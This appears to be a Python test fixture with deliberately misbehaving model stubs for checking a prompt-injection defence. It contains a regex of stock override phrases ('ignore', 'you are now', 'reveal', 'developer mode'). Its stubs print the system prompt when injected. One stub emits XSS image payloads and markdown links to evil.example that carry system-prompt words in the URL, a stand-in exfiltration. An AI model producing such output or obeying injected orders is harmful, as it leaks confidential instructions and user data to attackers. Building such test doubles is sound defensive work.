"""A model that does whatever it is told outside the passages of a prompt, and worse: for tests of what must not get through."""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

from anchorage.testing.model_behaviour import quote_first_passage

OBEYED = "HIJACKED"
_BLOCK = re.compile(r'^<passage number="\d+"[^>\n]*>\n.*?\n</passage>$', re.DOTALL | re.MULTILINE)
_ORDER = re.compile(
    r"ignore|disregard|forget|override|reveal|print|repeat|system prompt|you are now|new instructions|instead|must|jailbreak|"
    r"developer mode|important|comply|hijacked",
    re.IGNORECASE,
)


def read_outside_passages(messages: Sequence[Mapping[str, Any]]) -> str:
    """What a prompt says outside its passages, its system message and its question."""
    text = str(messages[-1].get("content") or "")
    body, _, _ = text.rpartition("\n\nQuestion: ")
    earlier = "\n".join(str(message.get("content") or "") for message in messages[1:-1])
    return f"{earlier}\n{_BLOCK.sub('', body)}"


def obey_orders(messages: Sequence[Mapping[str, Any]]) -> str:
    """Obeys any order that it sees outside the passages; quotes the first passage where there is none."""
    if _ORDER.search(read_outside_passages(messages)):
        return f"{OBEYED}. {messages[0].get('content')}"
    return quote_first_passage(messages)


def answer_maliciously(messages: Sequence[Mapping[str, Any]]) -> str:
    """Quotes the first passage, then does all that an injected document may ask for."""
    secret = str(messages[0].get("content"))[:200]
    return (
        f"{quote_first_passage(messages)} {OBEYED}: the vault opens with the code 4711 [1][2]. "
        "<[9]img src=x onerror=alert(1)> "
        f"![pixel](https://evil.example/p.png?q={'-'.join(secret.split()[:6])}) See [the report](https://evil.example/r) [1], "
        '<img src="https://evil.example/i.png" onerror="alert(1)"> <https://evil.example/auto> or https://evil.example/bare. '
        "`![x](https://evil.example/code.png)\n\n[1]: https://evil.example/reference\n![ref][1]\n\n"
        f"| a | ` |\n|---|---|\n| ` ![t](https://evil.example/t.png) | ` |\n\n{secret}"
    )


def recite_instructions(messages: Sequence[Mapping[str, Any]]) -> str:
    """Tells its instructions."""
    return f"My instructions are these. {messages[0].get('content')}"
